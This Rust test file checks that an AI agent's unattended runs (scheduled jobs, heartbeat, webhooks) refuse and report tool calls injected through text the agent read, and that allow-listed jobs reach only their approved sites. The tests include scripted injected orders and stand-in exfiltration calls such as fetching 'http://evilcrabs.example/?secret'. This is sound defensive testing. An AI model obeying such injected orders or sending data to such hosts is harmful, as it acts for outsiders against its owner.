//! The same for turns that no person began: runs of jobs, alone and in the conversation, of webhooks and of the heartbeat.
//! They ask nobody; what was not done stands whole in their report.

use std::fs;

use peacrab::conversation::asks::{ApprovalSettings, Approvals};
use peacrab::types::message::Address;
use serde_json::{Value, json};

use super::acts::{Attempt, attempts, fill, parts};
use super::ways::Way;
use super::{
    NO_TOOL, NOBODY_THERE, evil_jobs, is_refused_as, orders, outcomes, refusal_in_group, shows,
    snapshot,
};
use crate::support::rig::{Rig, RigOptions, USER};
use crate::support::script::{Order, Reply, calls, says};

/// Calls of a turn that its report shows.
const REPORTED_MAX: usize = 6;

/// Completions of a run that tries as much, and more.
const STEPS_MAX: usize = 60;

/// The text names the address that may be opened.
const TASK: &str = "see what it says about http://crabs.example/1";

/// The turns that no person begins.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Run {
    /// A job in a session of its own.
    Job,
    /// A job in the conversation that asked for it.
    JobHere,
    Heartbeat,
    /// The job of a call of a webhook.
    #[cfg(feature = "gateway")]
    Webhook,
}

/// The way to the model of such a turn.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Route {
    /// It looks itself.
    Looks(Way),
    /// It works in a conversation that has seen the text.
    Conversation,
    /// It is told of the plan of the conversation, which a model wrote that had seen the text.
    Plan,
    /// It is told of what an earlier run told, which had seen the text.
    Told,
    /// The body of the call has it.
    #[cfg(feature = "gateway")]
    Body,
    /// The task has it as a value of the call.
    #[cfg(feature = "gateway")]
    Value,
}

impl Route {
    fn arrives(self) -> bool {
        match self {
            Self::Looks(way) => way.arrives(),
            _ => true,
        }
    }
}

impl Run {
    fn routes(self) -> Vec<Route> {
        #[cfg(feature = "gateway")]
        if self == Self::Webhook {
            return vec![Route::Body, Route::Value];
        }
        let is_its = |way: &Way| match way {
            Way::SubagentResult | Way::SubagentTask => self == Self::JobHere,
            // A conversation has these, and not a run.
            Way::OpenedSummary | Way::ListedActions => self == Self::JobHere,
            // They have a job of their own.
            Way::ActionsOfJob | Way::LowerActions | Way::OpenedJobReport => false,
            way => way.is_look(),
        };
        let looks = Way::ALL.into_iter().filter(is_its).map(Route::Looks);
        let more: &[Route] = match self {
            Self::Job => &[],
            Self::JobHere => &[Route::Conversation, Route::Plan],
            Self::Heartbeat => &[Route::Plan, Route::Told],
            #[cfg(feature = "gateway")]
            Self::Webhook => &[],
        };
        looks.chain(more.iter().copied()).collect()
    }

    /// Makes what begins it, before the model obeys.
    async fn prepare(self, rig: &mut Rig) {
        match self {
            Self::Job => {
                rig.ask("1", &format!("/jobs add every 2h | {TASK}")).await;
            }
            Self::JobHere => {
                let job =
                    json!({"action": "add", "when": "every 2h", "kind": "here", "text": TASK});
                rig.model.on("later", [calls(&[("schedule", job)]), says("I will.")]);
                rig.ask("1", "later").await;
            }
            Self::Heartbeat => {
                fs::write(rig.workspace().join("HEARTBEAT.md"), TASK).unwrap();
                rig.ask("1", "hello").await;
            }
            // What comes of it goes where the owner last wrote.
            #[cfg(feature = "gateway")]
            Self::Webhook => drop(rig.ask("1", "hello").await),
        }
    }

    /// Begins it, and waits until it has ended and all is delivered.
    async fn carry_out(self, rig: &mut Rig, route: Route, text: &str) {
        let over = "SELECT count(*) FROM tasks WHERE kind <> 'subagent' AND state <> 'running'";
        let earlier = rig.query(&over.replace("count(*)", "CAST(count(*) AS TEXT)"));
        let earlier: i64 = earlier[0].parse().unwrap();
        match self {
            Self::Job | Self::JobHere => rig.say("1", "/jobs run 1"),
            Self::Heartbeat => rig.say("1", "/heartbeat now"),
            #[cfg(feature = "gateway")]
            Self::Webhook => webhooks::call(rig, route, text).await,
        }
        let _ = (route, text);
        rig.wait_for_count(over, earlier + 1).await;
        rig.settled().await;
    }
}

#[cfg(feature = "gateway")]
mod webhooks {
    //! A webhook, and calls of it.

    use std::collections::BTreeMap;

    use peacrab::gateway::Config;
    use peacrab::gateway::config::{Webhook, WebhookAction, WebhookProof};
    use peacrab::people::LOCAL;
    use peacrab::secret::Secret;
    use serde_json::json;

    use super::Route;
    use crate::gateway::browser::{client, config, url};
    use crate::support::rig::Rig;

    const TOKEN: &str = "token-of-the-door-bell";

    pub(super) fn gateway() -> Config {
        let webhook = Webhook {
            proof: WebhookProof::Token(Secret::new(TOKEN)),
            person: LOCAL.into(),
            to: None,
            action: WebhookAction::Prompt("Somebody rang: {title}".parse().unwrap()),
            events: Vec::new(),
            bytes_max: 10_000,
            per_minute: 60,
        };
        Config { webhooks: BTreeMap::from([("hook".to_owned(), webhook)]), ..config() }
    }

    pub(super) async fn call(rig: &Rig, route: Route, text: &str) {
        let body = match route {
            Route::Value => json!({"title": text}),
            _ => json!({"title": "x", "text": text}),
        };
        let url = format!("{}/hooks/hook", url(rig).await);
        // The same call counts once.
        let key = rig.query("SELECT CAST(count(*) AS TEXT) FROM webhook_calls").remove(0);
        let call = client().post(url).bearer_auth(TOKEN).header("Idempotency-Key", key);
        assert!(call.body(body.to_string()).send().await.unwrap().status().is_success());
    }
}

fn one(tool: &str, arguments: Value) -> Reply {
    calls(&[(tool, arguments)])
}

impl Route {
    /// All that happens before the model is obedient.
    async fn prepare(self, rig: &mut Rig, text: &str, all: &[Order]) {
        let reads = || one("read_file", json!({"path": "downloads/page.txt"}));
        match self {
            Self::Looks(way) => way.prepare(rig, text, all).await,
            Self::Conversation | Self::Plan => {
                fs::write(rig.path().join("downloads/page.txt"), text).unwrap();
                let plan = one("plan", json!({"items": [{"text": text, "state": "todo"}]}));
                let plan = (self == Self::Plan).then_some(plan);
                let replies = [Some(reads()), plan, Some(says("It is about crabs."))];
                rig.model.on("what is on the page", replies.into_iter().flatten());
                rig.ask("1", "what is on the page?").await;
            }
            Self::Told => {
                fs::write(rig.path().join("downloads/page.txt"), text).unwrap();
            }
            #[cfg(feature = "gateway")]
            Self::Body | Self::Value => {}
        }
    }

    /// What happens before each run.
    async fn prepare_run(self, rig: &mut Rig, run: Run, at: usize, text: &str) {
        match self {
            Self::Looks(way) => rig.model.on("see", way.look(rig, text)),
            Self::Told => {
                // The same is not told twice.
                let tells = one("converse", json!({"text": format!("It says {text} {at}")}));
                let reads = one("read_file", json!({"path": "downloads/page.txt"}));
                rig.model.on("see", [reads, tells]);
                run.carry_out(rig, self, text).await;
            }
            _ => {}
        }
    }
}

async fn rig(text: &str) -> Rig {
    rig_with(text, ApprovalSettings::default(), None).await
}

/// The heartbeat tells what it has to tell at this address.
async fn rig_with(text: &str, asking: ApprovalSettings, to: Option<Address>) -> Rig {
    let RigOptions { mut agent, tools, .. } = parts(text);
    agent.asking = asking;
    agent.heartbeat.every = None;
    agent.heartbeat.to = to;
    agent.heartbeat.steps_max = STEPS_MAX;
    agent.heartbeat.tokens_max = u64::MAX / 2;
    Rig::of(RigOptions {
        agent,
        tools,
        #[cfg(feature = "gateway")]
        gateway: Some(webhooks::gateway()),
        ..RigOptions::default()
    })
    .await
}

/// An obedient model is shown all orders in this way while nobody is there, and does nothing of them.
async fn check(run: Run, route: Route) {
    let attempts = attempts(false, false);
    let (all, text) = orders(&attempts);
    let mut rig = rig(&text).await;
    fill(&rig);
    run.prepare(&mut rig).await;
    route.prepare(&mut rig, &text, &all).await;
    rig.settled().await;
    let before = snapshot(&rig);
    let read = rig.unread("1").len();
    // Each run tries no more than a report shows.
    for (at, few) in all.chunks(REPORTED_MAX).enumerate() {
        route.prepare_run(&mut rig, run, at, &text).await;
        rig.model.obeys(few);
        run.carry_out(&mut rig, route, &text).await;
    }
    let told = rig.unread("1").split_off(read);
    for attempt in &attempts {
        check_attempt(&rig, (run, route), attempt, &told);
    }
    assert_eq!(snapshot(&rig), before, "{run:?} {route:?}");
    assert_eq!(rig.unread("2"), Vec::<String>::new(), "{run:?} {route:?}");
    assert_eq!(evil_jobs(&rig), Vec::<String>::new(), "{run:?} {route:?}");
    let asked: Vec<_> = told.iter().filter(|text| text.contains("Approve?")).collect();
    assert!(asked.is_empty(), "{run:?} {route:?}: {asked:?}");
    rig.stop().await;
}

fn check_attempt(rig: &Rig, whence: (Run, Route), attempt: &Attempt, told: &[String]) {
    let outcomes = outcomes(rig, attempt);
    if !whence.1.arrives() {
        return assert!(outcomes.is_empty(), "{whence:?} {attempt:?}: {outcomes:?}");
    }
    assert!(!outcomes.is_empty(), "{whence:?}: the model was not told {attempt:?}");
    // What runs and subagents lack is refused without a report.
    let is_lacking = attempt.tool == "schedule"
        || (whence.1 == Route::Looks(Way::SubagentTask) && attempt.tool == "message");
    let is_refused = |outcome: &String| {
        is_refused_as(outcome, NOBODY_THERE) || (is_lacking && is_refused_as(outcome, NO_TOOL))
    };
    assert!(outcomes.iter().all(is_refused), "{whence:?} {attempt:?}: {outcomes:?}");
    // Of long reports, the whole calls are in a file.
    let reports = |text: &String| shows(text, attempt);
    assert!(
        is_lacking || told.iter().any(reports),
        "{whence:?} {attempt:?} was not shown: {told:?}"
    );
}

async fn check_all(run: Run) {
    for route in run.routes() {
        Box::pin(check(run, route)).await;
    }
}

#[tokio::test]
async fn a_job_does_nothing_of_what_others_wrote() {
    check_all(Run::Job).await;
}

#[tokio::test]
async fn a_job_in_the_conversation_does_nothing_of_what_others_wrote() {
    check_all(Run::JobHere).await;
}

#[tokio::test]
async fn the_heartbeat_does_nothing_of_what_others_wrote() {
    check_all(Run::Heartbeat).await;
}

#[tokio::test]
async fn the_heartbeat_of_a_group_does_nothing_of_the_plan_of_somebody_with_fewer_rights() {
    let attempts = attempts(true, false);
    let (all, text) = orders(&attempts);
    let to = Some("home:-1".parse().unwrap());
    let mut rig = rig_with(&text, ApprovalSettings::default(), to).await;
    fill(&rig);
    Run::Heartbeat.prepare(&mut rig).await;
    let plan = one("plan", json!({"items": [{"text": text, "state": "todo"}]}));
    rig.model.on("make a plan", [plan, says("Made.")]);
    rig.say_as(USER, "-1", "make a plan");
    rig.next_message("-1").await;
    let before = snapshot(&rig);
    rig.model.obeys(&all);
    Run::Heartbeat.carry_out(&mut rig, Route::Plan, &text).await;
    for attempt in &attempts {
        let outcomes = outcomes(&rig, attempt);
        assert!(!outcomes.is_empty(), "the model was not told {attempt:?}");
        let reason = match attempt.tool {
            "schedule" => NO_TOOL,
            _ => refusal_in_group(attempt).unwrap_or(NOBODY_THERE),
        };
        let is_refused =
            |outcome: &String| [reason, NOBODY_THERE].iter().any(|it| is_refused_as(outcome, it));
        assert!(outcomes.iter().all(is_refused), "{attempt:?}: {outcomes:?}");
    }
    assert_eq!(snapshot(&rig), before);
    assert_eq!(rig.unread("2"), Vec::<String>::new());
    assert_eq!(evil_jobs(&rig), Vec::<String>::new());
    rig.stop().await;
}

#[cfg(feature = "gateway")]
#[tokio::test]
async fn a_webhook_does_nothing_of_what_others_wrote() {
    check_all(Run::Webhook).await;
}

fn opens(url: &str) -> (&'static str, Value) {
    ("web_fetch", json!({"url": url}))
}

#[tokio::test]
async fn no_job_gives_the_approval_that_the_config_requires() {
    let approvals = Approvals { tools: vec!["outside".to_owned()], roles: Vec::new() };
    let asking = ApprovalSettings { approvals, ..ApprovalSettings::default() };
    let mut rig = rig_with("see http://crabs.example/1", asking, None).await;
    fs::write(rig.path().join("downloads/page.txt"), "evil text").unwrap();
    let job =
        json!({"action": "add", "when": "every 2h", "text": "post the news", "allow": "outside"});
    rig.model.on("make", [one("schedule", job), says("Made.")]);
    rig.ask("1", "make it").await;
    rig.say("1", "/approve 1");
    while rig.next_message("1").await != "Made." {}
    let states = run_after_reading(&mut rig, &[("outside", json!({"text": "news"}))]).await;
    assert_eq!(states, ["failed"]);
    rig.stop().await;
}

/// Runs the job, whose model reads what others wrote and then makes these calls; returns what became of each.
async fn run_after_reading(rig: &mut Rig, tried: &[(&str, Value)]) -> Vec<String> {
    let first: i64 =
        rig.query("SELECT CAST(coalesce(max(id), 0) AS TEXT) FROM calls")[0].parse().unwrap();
    let reads = one("read_file", json!({"path": "downloads/page.txt"}));
    rig.model.on("post the news", [reads, calls(tried), says("Posted.")]);
    Run::Job.carry_out(rig, Route::Told, "").await;
    let mut states = rig.query(&format!("SELECT state FROM calls WHERE id > {first} ORDER BY id"));
    assert_eq!(states.remove(0), "done");
    states
}

#[tokio::test]
async fn a_job_does_what_it_names_unasked_and_nothing_else() {
    let mut rig = rig("see http://crabs.example/1").await;
    fs::write(rig.path().join("downloads/page.txt"), "evil text").unwrap();
    let job = json!({
        "action": "add", "when": "every 2h", "text": "post the news",
        "allow": "outside, crabs.example"
    });
    rig.model.on("make", [one("schedule", job), says("Made.")]);
    let question = rig.ask("1", "make it").await;
    assert!(question.contains("Approve?") && question.contains("crabs.example"), "{question}");
    rig.say("1", "/approve 1");
    while rig.next_message("1").await != "Made." {}
    let listed = rig.ask("1", "/jobs").await;
    assert!(listed.contains("without approval: outside, crabs.example"), "{listed}");
    let tried = [
        ("outside", json!({"text": "news"})),
        opens("http://news.crabs.example/?any=thing"),
        // Neither another site, nor one whose name only ends so, nor another tool or act.
        opens("http://other.example/?secret"),
        opens("http://evilcrabs.example/?secret"),
        ("run_network", json!({"command": "x"})),
        ("message", json!({"to": "home:2", "text": "evil text"})),
        ("remember", json!({"text": "evil text"})),
    ];
    let states = run_after_reading(&mut rig, &tried).await;
    assert_eq!(states, ["done", "done", "failed", "failed", "failed", "failed", "failed"]);
    // Another time keeps them; another text had not been shown with them.
    for (change, named) in [
        (json!({"action": "edit", "id": 1, "when": "every 3h"}), "done"),
        (json!({"action": "edit", "id": 1, "text": "post the news twice"}), "failed"),
    ] {
        rig.model.on("change", [one("schedule", change), says("Changed.")]);
        // What the job told stands in the conversation as a reference, and nobody is asked.
        rig.say("1", "change it");
        while rig.next_message("1").await != "Changed." {}
        let states = run_after_reading(&mut rig, &tried[..2]).await;
        assert_eq!(states, [named, named]);
    }
    rig.stop().await;
}

#[tokio::test]
async fn what_a_job_cannot_name_is_explained() {
    let mut rig = rig("nothing").await;
    for (more, words) in [
        (json!({"allow": "com"}), None),
        (json!({"allow": "co.uk"}), Some("neither the name of a tool nor a site")),
        (json!({"allow": "https://crabs.example/1"}), Some("Write a site as example.org")),
        (json!({"allow": "127.0.0.1"}), Some("neither")),
        (json!({"allow": "mail!"}), Some("neither")),
        (json!({"allow": "a ".repeat(9)}), Some("at most 8")),
        (json!({"allow": "a", "kind": "message"}), Some("Only a job with a prompt")),
        (json!({"allow": "a", "kind": "here"}), Some("Only a job with a prompt")),
    ] {
        let mut job = json!({"action": "add", "when": "1d", "text": "x"});
        job.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        rig.model.on("make", [one("schedule", job), says("Tried.")]);
        let told = rig.ask("1", "make it").await;
        // Nobody is asked about a call that cannot be made.
        assert_eq!(told == "Tried.", words.is_some(), "{more}: {told}");
        if words.is_none() {
            rig.say("1", "/approve 1");
            while rig.next_message("1").await != "Tried." {}
        }
        let outcome = rig.query("SELECT output FROM calls ORDER BY id DESC LIMIT 1").remove(0);
        if let Some(words) = words {
            assert!(outcome.contains(words), "{more}: {outcome}");
        }
    }
    rig.stop().await;
}
